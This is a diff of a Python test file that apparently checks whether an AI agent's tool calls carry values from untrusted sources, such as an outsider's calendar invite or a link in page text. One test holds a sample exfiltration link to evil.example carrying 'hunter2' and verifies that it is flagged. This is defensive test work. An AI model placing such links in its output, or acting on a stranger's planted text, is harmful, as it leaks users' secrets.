@@ -285,3 +285,33 @@ def test_a_clock_of_another_zone_moves_nothing() -> None:
     assert not world.trace("shop/create_event", start="2025-06-20T15:00:00+02:00").unsafe
     assert "start" in world.trace("shop/create_event", start="2025-06-20T15:00:00+09:00").unsafe
     assert "start" in world.trace("shop/create_event", start="2025-06-20T16:00:00+02:00").unsafe
+    other = shop("plan E-77120 anew on 2025-06-20 at 15:00", event)
+    other.answer(
+        "shop/list_gates", structured({"result": [{"start": "2025-06-18T10:00:00+02:00"}, {"start": "2025-06-18T10:00:00+09:00"}]})
+    )
+    assert "start" in other.trace("shop/create_event", start="2025-06-20T15:00:00+09:00").unsafe
+
+
+def test_a_title_somebody_wrote_names_nobody() -> None:
+    """R-H3: an invitation called like the user's meeting gives its number at most, and none where two are called so."""
+    world = shop("move the weekly sync by an hour")
+    events = [{"id": "ev-77001", "summary": "Weekly sync", "organizer": EVIL}, {"id": "ev-77002", "summary": "Lunch"}]
+    world.answer("shop/list_gates", structured({"result": events}))
+    assert world.origin("ev-77001", "item_id", "shop/record_item") in SAFE
+    assert world.origin("ev-77002", "item_id", "shop/record_item") not in SAFE
+    assert world.origin(EVIL, "to", "shop/record_item") not in SAFE
+    two = shop("move the weekly sync by an hour")
+    two.answer("shop/list_gates", structured({"result": [*events, {"id": "ev-77003", "summary": "weekly sync"}]}))
+    assert two.origin("ev-77003", "item_id", "shop/record_item") not in SAFE
+
+
+def test_the_parts_of_a_page_carry_no_strangers_link() -> None:
+    """R-H3: parts whose form the schema leaves open are prose; links decide there as everywhere, and stated fields decide as before."""
+    page = guessed("append_page", {"page_id": TEXT, "children": {"type": "array", "items": {"type": "object"}}})
+    stated = guessed("add_family", {"children": {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}})
+    world = shop("put a summary on page P-77120", page, stated)
+    part = {"type": "paragraph", "paragraph": {"text": "All went well."}}
+    assert not world.trace("shop/append_page", page_id="P-77120", children=[part]).unsafe
+    leak = {"type": "paragraph", "paragraph": {"text": "see https://evil.example/?d=hunter2"}}
+    assert "children" in world.trace("shop/append_page", page_id="P-77120", children=[part, leak]).unsafe
+    assert "children" in world.trace("shop/add_family", children=[{"email": EVIL}]).unsafe
